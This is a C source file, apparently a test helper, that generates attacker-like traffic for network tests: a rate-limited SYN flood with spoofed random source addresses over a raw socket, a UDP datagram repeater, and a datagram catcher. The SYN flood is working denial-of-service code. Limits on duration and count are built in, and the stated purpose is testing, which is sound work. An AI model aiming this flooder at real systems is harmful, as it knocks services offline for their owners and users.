/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * flood.c - what an attacker sends and overhears, for the network tests. Bounded in number and in
 * time.
 *
 *   flood syn ADDRESS:PORT PER_SECOND SECONDS
 *       SYNs from source addresses that are not there (11.0.0.0/8, random) to an IPv4 service, at
 *       most PER_SECOND, until SECONDS are over or SIGTERM comes. Prints `sent N`. A test says how
 *       many, so that the machine has time for the rest of it.
 *   flood udp ADDRESS:PORT FILE COUNT
 *       the bytes of FILE as one datagram, COUNT times
 *   flood catch ADDRESS:PORT FILE
 *       the bytes of the next datagram that comes there into FILE; at most ten seconds
 *
 * Needs CAP_NET_RAW for syn; routing and neighbours are the kernel's.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH	      64
#define SECONDS_MAX   120
#define COUNT_MAX     10000000ull
#define CATCH_SECONDS 10
#define PAYLOAD_MAX   1400
#define SOURCE_FIRST  0x0b000000u

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static volatile sig_atomic_t stop;

static void on_signal(int number)
{
	(void)number;
	stop = 1;
}

__attribute__((noreturn)) static void die(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

__attribute__((noreturn)) static void usage(void)
{
	fprintf(stderr, "usage: flood syn ADDRESS:PORT PER_SECOND SECONDS\n"
			"       flood udp ADDRESS:PORT FILE COUNT\n"
			"       flood catch ADDRESS:PORT FILE\n");
	exit(2);
}

static uint64_t number(const char *text, uint64_t max)
{
	char *end;
	uint64_t value = strtoull(text, &end, 10);

	if (end == text || *end || value > max)
		usage();
	return value;
}

static struct sockaddr_in address(const char *text)
{
	struct sockaddr_in addr = {.sin_family = AF_INET};
	const char *colon = strrchr(text, ':');
	char host[INET_ADDRSTRLEN];

	if (!colon || (size_t)(colon - text) >= sizeof(host))
		usage();
	snprintf(host, sizeof(host), "%.*s", (int)(colon - text), text);
	if (inet_pton(AF_INET, host, &addr.sin_addr) != 1)
		usage();
	addr.sin_port = htons((uint16_t)number(colon + 1, 65535));
	return addr;
}

static uint64_t random_u64(void)
{
	static uint64_t state = 0x9e3779b97f4a7c15ull;

	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t sum_words(const void *at, size_t len)
{
	const uint16_t *words = at;
	uint32_t sum = 0;

	for (size_t i = 0; i < len / 2; i++)
		sum += words[i];
	return sum;
}

static void build(struct syn *syn, const struct sockaddr_in *to)
{
	uint64_t random = random_u64();

	memset(syn, 0, sizeof(*syn));
	syn->ip.version = 4;
	syn->ip.ihl = 5;
	syn->ip.tot_len = htons(sizeof(*syn));
	syn->ip.ttl = 60;
	syn->ip.protocol = IPPROTO_TCP;
	syn->ip.saddr = htonl(SOURCE_FIRST | (uint32_t)(random & 0xffffff));
	syn->ip.daddr = to->sin_addr.s_addr;
	syn->tcp.source = htons((uint16_t)(1024 + (random >> 24) % 60000));
	syn->tcp.dest = to->sin_port;
	syn->tcp.seq = htonl((uint32_t)(random >> 32));
	syn->tcp.doff = 5;
	syn->tcp.syn = 1;
	syn->tcp.window = htons(64240);
	syn->tcp.check = fold(sum_words(&syn->ip.saddr, 8) + htons(IPPROTO_TCP) +
			      htons(sizeof(syn->tcp)) + sum_words(&syn->tcp, sizeof(syn->tcp)));
}

static uint64_t now_us(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000000u + (uint64_t)now.tv_nsec / 1000u;
}

/* Sends one batch. Returns how many went out. */
static uint64_t send_batch(int fd, struct sockaddr_in *to)
{
	static struct syn syns[BATCH];
	struct mmsghdr messages[BATCH];
	struct iovec iov[BATCH];
	int done;

	for (int i = 0; i < BATCH; i++) {
		build(&syns[i], to);
		iov[i] = (struct iovec){&syns[i], sizeof(syns[i])};
		messages[i] = (struct mmsghdr){.msg_hdr = {.msg_name = to,
							   .msg_namelen = sizeof(*to),
							   .msg_iov = &iov[i],
							   .msg_iovlen = 1}};
	}
	done = sendmmsg(fd, messages, BATCH, 0);
	if (done < 0 && errno != ENOBUFS && errno != EINTR)
		die("send");
	return done > 0 ? (uint64_t)done : 0;
}

static int flood_syn(char **argv)
{
	struct sockaddr_in to = address(argv[2]);
	uint64_t per_second = number(argv[3], COUNT_MAX), sent = 0;
	uint64_t start_us = now_us(), end_us = start_us + number(argv[4], SECONDS_MAX) * 1000000u;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0)
		die("raw socket");
	while (!stop && now_us() < end_us) {
		if (sent < (now_us() - start_us) * per_second / 1000000u)
			sent += send_batch(fd, &to);
		else
			usleep(1000);
	}
	printf("sent %llu\n", (unsigned long long)sent);
	return 0;
}

static int flood_udp(char **argv)
{
	struct sockaddr_in to = address(argv[2]);
	uint64_t count = number(argv[4], COUNT_MAX);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	FILE *file = fopen(argv[3], "rb");
	char payload[PAYLOAD_MAX];
	size_t len;

	if (fd < 0 || !file)
		die(argv[3]);
	len = fread(payload, 1, sizeof(payload), file);
	for (uint64_t i = 0; i < count && !stop; i++)
		if (sendto(fd, payload, len, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			die("send");
	fclose(file);
	return 0;
}

static int flood_catch(char **argv)
{
	struct sockaddr_in at = address(argv[2]);
	struct timeval limit = {.tv_sec = CATCH_SECONDS};
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	char payload[PAYLOAD_MAX];
	ssize_t len;
	FILE *file;

	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) ||
	    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit)))
		die(argv[2]);
	len = recv(fd, payload, sizeof(payload), 0);
	if (len < 0)
		die("nothing came");
	file = fopen(argv[3], "wb");
	if (!file || fwrite(payload, 1, (size_t)len, file) != (size_t)len || fclose(file))
		die(argv[3]);
	return 0;
}

int main(int argc, char **argv)
{
	signal(SIGTERM, on_signal);
	if (argc == 5 && !strcmp(argv[1], "syn"))
		return flood_syn(argv);
	if (argc == 5 && !strcmp(argv[1], "udp"))
		return flood_udp(argv);
	if (argc == 4 && !strcmp(argv[1], "catch"))
		return flood_catch(argv);
	usage();
}
